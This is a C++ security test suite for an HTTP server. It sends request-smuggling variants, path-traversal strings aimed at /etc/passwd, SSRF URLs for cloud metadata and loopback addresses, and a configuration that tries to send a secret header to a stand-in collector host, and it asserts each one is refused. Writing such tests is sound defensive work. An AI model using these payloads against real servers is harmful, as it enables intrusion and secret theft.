// What an attacker tries: refused with a problem document, and the server goes on.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "server/running_server.hpp"

namespace fieldcall::server::test {
namespace {

using namespace std::string_literals;  // NOLINT(google-build-using-namespace)
using nlohmann::json;
using testing::HasSubstr;
using testing::Not;

class Attack : public testing::Test {
 protected:
  // The server lives and no call was made.
  void TearDown() override {
    EXPECT_EQ(running.ask(running.get("/healthz")).status, 200);
    EXPECT_EQ(running.api.accepted(), 0U);
    RunningServer::wait_until([this] { return running.server->calls() == 0; });
  }

  std::string lines(const std::string& host, const std::string& more) const {
    return "POST /v1/run HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: application/json\r\n" +
           more + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
  }
  std::string bearer() const { return "Authorization: Bearer " + running.server->token() + "\r\n"; }

  RunningServer running;
  std::string body = running.run_body("/ok");
};

TEST_F(Attack, WithoutTheToken) {
  const std::string wrong(64, '0');
  for (const std::string& credentials :
       {std::string(), "Authorization: Bearer " + wrong + "\r\n",
        "Authorization: Basic " + running.server->token() + "\r\n",
        "Cookie: token=" + running.server->token() + "\r\n", std::string("Authorization:\r\n")}) {
    const Reply reply = running.ask(lines(running.host(), credentials));
    EXPECT_EQ(reply.status, 401);
    EXPECT_EQ(reply.problem(), "unauthorized");
    EXPECT_EQ(reply.header("WWW-Authenticate"), "Bearer");
    EXPECT_THAT(reply.body, Not(HasSubstr(running.server->token())));
  }
  EXPECT_EQ(running
                .ask("POST /v1/run?token=" + running.server->token() +
                     " HTTP/1.1\r\nHost: " + running.host() + "\r\nContent-Length: 0\r\n\r\n")
                .problem(),
            "unauthorized");
}

TEST_F(Attack, FromAForeignPage) {
  for (const char* const origin : {"https://evil.example", "null", "http://127.0.0.1:1"}) {
    const Reply reply = running.ask(lines(running.host(), bearer() + "Origin: " + origin + "\r\n"));
    EXPECT_EQ(reply.status, 403);
    EXPECT_EQ(reply.problem(), "origin_refused");
    EXPECT_EQ(reply.header("Access-Control-Allow-Origin"), "");
  }
  const Reply preflight = running.ask("OPTIONS /v1/run HTTP/1.1\r\nHost: " + running.host() +
                                      "\r\nOrigin: https://evil.example\r\n"
                                      "Access-Control-Request-Method: POST\r\n\r\n");
  EXPECT_EQ(preflight.status, 403);
  EXPECT_EQ(preflight.header("Access-Control-Allow-Origin"), "");
}

// What a page can send anywhere without asking first: forms and no-cors.
TEST_F(Attack, SimpleRequests) {
  for (const char* const type :
       {"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
        "text/plain; application/json", "application/jsonp", ""}) {
    const std::string line = "Content-Type: " + std::string(type) + "\r\n";
    const Reply reply =
        running.ask("POST /v1/run HTTP/1.1\r\n" + running.identity() + line +
                    "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
    EXPECT_EQ(reply.status, 415) << type;
    EXPECT_EQ(reply.problem(), "unsupported_media_type");
  }
  EXPECT_EQ(running.ask(running.post("/v1/run", body, "Content-Encoding: gzip\r\n")).problem(),
            "unsupported_media_type");
}

TEST_F(Attack, NamesThatWereMadeToPointHere) {
  for (const std::string& host :
       {"evil.example:" + std::to_string(running.port()), std::string("evil.example"),
        std::string("127.0.0.1"), std::string("127.0.0.1:1"), "127.0.0.1.nip.example:80"s}) {
    const Reply reply = running.ask(lines(host, bearer()));
    EXPECT_EQ(reply.status, 421) << host;
    EXPECT_EQ(reply.problem(), "host_refused");
  }
  EXPECT_EQ(running.ask("GET /healthz HTTP/1.1\r\nHost: evil.example\r\n\r\n").status, 421);
  EXPECT_EQ(running.ask("GET /healthz HTTP/1.1\r\n\r\n").problem(), "missing_host");
}

TEST_F(Attack, SmuggledRequests) {
  const std::string hidden = "GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n";
  for (const std::string& more :
       {"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
        "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + hidden,
        "Content-Length: 4\r\nContent-Length: 40\r\n\r\nabcd" + hidden,
        "Content-Length: 4\r\nContent-Length: 4\r\n\r\nabcd" + hidden,
        "Content-Length: 4, 4\r\n\r\nabcd" + hidden, "Content-Length : 4\r\n\r\nabcd" + hidden,
        "Content-Length: +4\r\n\r\nabcd" + hidden,
        "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + hidden,
        "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + hidden,
        "Transfer-Encoding:\x0b"
        "chunked\r\n\r\n0\r\n\r\n" +
            hidden,
        "X: a\r\n Content-Length: 4\r\n\r\nabcd" + hidden,
        "X: a\nContent-Length: 4\r\n\r\nabcd" + hidden,
        "X: a\rContent-Length: 4\r\n\r\nabcd" + hidden, "\nContent-Length: 4\r\n\r\n" + hidden}) {
    RawClient client(running.port());
    client.send("POST /v1/run HTTP/1.1\r\n" + running.identity() +
                "Content-Type: application/json\r\n" + more);
    const Reply reply = client.read();
    EXPECT_EQ(reply.status, 400) << more;
    EXPECT_EQ(reply.problem(), "bad_request") << more;
    EXPECT_EQ(reply.header("Connection"), "close");
    EXPECT_TRUE(client.ends()) << "a second answer to " << more;
  }
}

// A body that nobody wants is no request either.
TEST_F(Attack, RequestsHiddenInBodies) {
  const std::string hidden = running.get("/healthz");
  const std::string length = "Content-Length: " + std::to_string(hidden.size()) + "\r\n";
  for (const std::string& bytes :
       {running.get("/healthz", length), running.get("/none", length),
        "POST /v1/run HTTP/1.1\r\nHost: " + running.host() + "\r\n" + length + "\r\n",
        running.get("/healthz", "Transfer-Encoding: chunked\r\n")}) {
    RawClient client(running.port());
    const Reply reply = client.ask(bytes + hidden);
    EXPECT_EQ(reply.header("Connection"), "close") << bytes;
    EXPECT_TRUE(client.ends()) << "a second answer to " << bytes;
  }
}

TEST_F(Attack, ChunksThatAreNone) {
  const std::string head = "POST /v1/run HTTP/1.1\r\n" + running.identity() +
                           "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
  for (const std::string chunk : {"zz\r\n", "-1\r\na\r\n", "ffffffffffffffffff\r\n", "1\r\nabc\r\n",
                                  "0x1\r\na\r\n", "1\nb\n", "\r\n"}) {
    RawClient client(running.port());
    client.send(head + chunk + std::string(64, 'x'));
    const Reply reply = client.read();
    EXPECT_TRUE(reply.status == 400 || reply.status == 413) << chunk << reply.head;
    EXPECT_TRUE(client.ends());
  }
}

TEST_F(Attack, RequestsThatAreNone) {
  for (const std::string& bytes :
       {std::string("\r\n\r\n"), "GET\r\n\r\n"s, std::string(300, '\0') + "\r\n\r\n",
        "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"s,
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"s,
        "GET http://evil.example/ HTTP/1.1\r\nHost: a\r\n\r\n"s,
        "CONNECT evil.example:443 HTTP/1.1\r\nHost: a\r\n\r\n"s}) {
    RawClient client(running.port());
    const Reply reply = client.ask(bytes);
    EXPECT_EQ(reply.problem(), "bad_request");
    EXPECT_TRUE(client.ends());
  }
}

TEST_F(Attack, OtherMethods) {
  for (const char* const method : {"TRACE", "PUT", "DELETE", "PATCH", "get", "CONNECT"}) {
    const Reply reply =
        running.ask(std::string(method) + " /v1/run HTTP/1.1\r\n" + running.identity() + "\r\n");
    EXPECT_EQ(reply.status, 405) << method;
    EXPECT_THAT(reply.body, Not(HasSubstr(running.server->token())));
  }
}

TEST_F(Attack, LargeBodies) {
  RawClient declared(running.port());
  declared.send("POST /v1/run HTTP/1.1\r\n" + running.identity() +
                "Content-Type: application/json\r\nContent-Length: 99999999999\r\n\r\n{");
  EXPECT_EQ(declared.read().problem(), "body_too_large");
  EXPECT_TRUE(declared.ends());

  RawClient chunked(running.port());
  chunked.send("POST /v1/run HTTP/1.1\r\n" + running.identity() +
               "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n");
  const std::string chunk = "100000\r\n" + std::string(0x100000, ' ') + "\r\n";
  for (int i = 0; i < 5; ++i) chunked.send(chunk);
  EXPECT_EQ(chunked.read().problem(), "body_too_large");
}

TEST_F(Attack, LargeHeads) {
  for (const std::string& bytes :
       {"GET /healthz HTTP/1.1\r\nX: " + std::string(20'000, 'x'),
        "GET /" + std::string(20'000, 'x'),
        "GET /healthz HTTP/1.1\r\nX: " + std::string(20'000, 'x') + "\r\n\r\n"}) {
    RawClient client(running.port());
    const Reply reply = client.ask(bytes);
    EXPECT_EQ(reply.status, 431);
    EXPECT_EQ(reply.problem(), "headers_too_large");
    EXPECT_TRUE(client.ends());
  }
}

TEST_F(Attack, PathsThatLeadOut) {
  for (const char* const path :
       {"/../etc/passwd", "/%2e%2e/etc/passwd", "/%252e%252e/etc/passwd", "/..%2f..%2fetc%2fpasswd",
        "//etc/passwd", "/v1/../metrics", "/v1/%72un", "/./metrics", "/metrics/", "/METRICS"}) {
    const Reply reply = running.ask(running.get(path));
    EXPECT_EQ(reply.problem(), "not_found") << path;
  }
}

TEST_F(Attack, InternalTargets) {
  for (const std::string host :
       {"169.254.169.254", "[::1]", "localhost", "127.0.0.2", "10.0.0.1", "192.168.1.1", "0.0.0.0",
        "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "0x7f000001", "2130706433", "127.1"}) {
    const RunningServer strict(
        [](ServerOptions& options) { options.client.engine.egress = EgressPolicy{}; });
    for (const char* const scheme : {"http", "https"}) {
      const std::string url = std::string(scheme) + "://" + host + "/latest/meta-data/";
      const Reply reply = strict.ask(strict.post(
          "/v1/run", R"({"config": {"key": "a", "name": "A", "retry": 0, "api_config": {"url":
              "{env.base}/x", "method": "GET", "response_mapping": {"a": "@"}}},
              "inputs": {"roots": {"env": {"base": ")" +
                         url + R"("}}}})"));
      EXPECT_EQ(reply.status, 200) << reply.body;
      const json outcome = json::parse(reply.body);
      EXPECT_EQ(outcome["status"], "failed") << url;
      EXPECT_TRUE(outcome["error"]["code"] == "egress_denied" ||
                  outcome["error"]["code"] == "invalid_url")
          << reply.body;
    }
  }
}

TEST_F(Attack, BodiesThatAreNoRequests) {
  for (const std::string& bad :
       {std::string(), "{"s, "[]"s, "null"s, R"({"config": 1})"s,
        R"({"config": {}, "secrets": {}})"s,
        R"({"config": {}, "inputs": {"secrets": {"a": "b"}}})"s, std::string(100'000, '['),
        "{\"config\": \"\xff\"}"s, R"({"config": {}, "egress": {"allow_http": true}})"s}) {
    const Reply reply = running.ask(running.post("/v1/run", bad));
    EXPECT_TRUE(reply.status == 400 || reply.status == 422) << bad.substr(0, 40) << reply.head;
    EXPECT_NE(reply.problem(), "");
  }
}

// A configuration comes from whoever asks: a secret goes only where it says itself.
TEST(StolenSecrets, StayWithTheirOrigins) {
  const RunningServer running([](ServerOptions& options) {
    options.client.engine.egress = EgressPolicy{};
    options.client.engine.egress.allow_http = true;
  });
  for (const char* const secret : {"api_token", "homeless"}) {
    for (const char* const endpoint : {"/v1/run", "/v1/render"}) {
      const Reply reply = running.ask(running.post(
          endpoint, R"({"config": {"key": "a", "name": "A", "retry": 0, "api_config": {"url":
              "https://collector.example/", "method": "GET", "headers": {"X": "{secret.)" +
                        std::string(secret) + R"(}"}, "response_mapping": {"a": "@"}}}})"));
      const json answer = json::parse(reply.body);
      EXPECT_EQ(answer["status"], "failed") << reply.body;
      EXPECT_EQ(answer["error"]["code"], "secret_origin_denied") << reply.body;
      EXPECT_THAT(reply.body, Not(HasSubstr(planted_secret)));
    }
  }
}

// Everything the server says, searched for the secret and the token.
TEST(StolenSecrets, AreFoundInNoAnswer) {
  const RunningServer running;
  const std::string with_secret = R"("headers": {"X-Key": "{secret.api_token}"}, )"
                                  R"("response_type": "text", )";
  const std::string echo = R"({"config": )" + running.field("/echo", with_secret) + '}';
  std::vector<std::string> said;
  const auto ask = [&](const std::string& bytes) {
    const Reply reply = running.ask(bytes);
    said.push_back(reply.head + reply.body);
    return reply;
  };
  const std::string all =
      R"({"config": {"key": "a", "name": "A", "retry": 0, "api_config": {"url": ")" +
      running.api.origin() + R"(/echo", "method": "GET", )" + with_secret +
      R"("response_mapping": {"a": "$body"}}}})";
  EXPECT_EQ(json::parse(ask(running.post("/v1/run", all)).body)["status"], "ok");
  EXPECT_EQ(running.api.requests()[0].header("X-Key"), planted_secret);
  ask(running.post("/v1/run", echo));
  ask(running.post("/v1/render", all));
  ask(running.post("/v1/validate", all));
  const std::string body_of_it = all.substr(0, all.size() - 1);
  ask(running.post("/v1/map", body_of_it + R"(, "answer": "text"})"));
  ask(running.post("/v1/simulate", body_of_it + R"(, "script": [{"status": 200}]})"));
  ask(running.post("/v1/run", "{"));
  ask(running.post("/v1/run", R"({"config": {"key": "a"}})"));
  ask(running.get("/metrics"));
  ask(running.get("/openapi.json"));
  ask(running.get("/none"));
  ask("GET /healthz HTTP/1.1\r\nHost: evil\r\n\r\n");
  for (const std::string& answer : said) {
    EXPECT_THAT(answer, Not(HasSubstr(planted_secret)));
    EXPECT_THAT(answer, Not(HasSubstr(running.server->token())));
  }
}

// The mapping of a made-up answer tells nothing about secrets.
TEST(StolenSecrets, MapIsNoOracle) {
  const RunningServer running;
  const auto mapped = [&](const std::string& guess) {
    return running
        .ask(running.post(
            "/v1/map", R"({"config": )" +
                           running.field("/ok", R"("headers": {"X": "{secret.api_token}"}, )") +
                           R"(, "answer": {"status": 200, "body": {"ok": ")" + guess + R"("}}})"))
        .body;
  };
  EXPECT_THAT(mapped(planted_secret), HasSubstr(planted_secret)) << "it was scrubbed: a hit";
}

}  // namespace
}  // namespace fieldcall::server::test
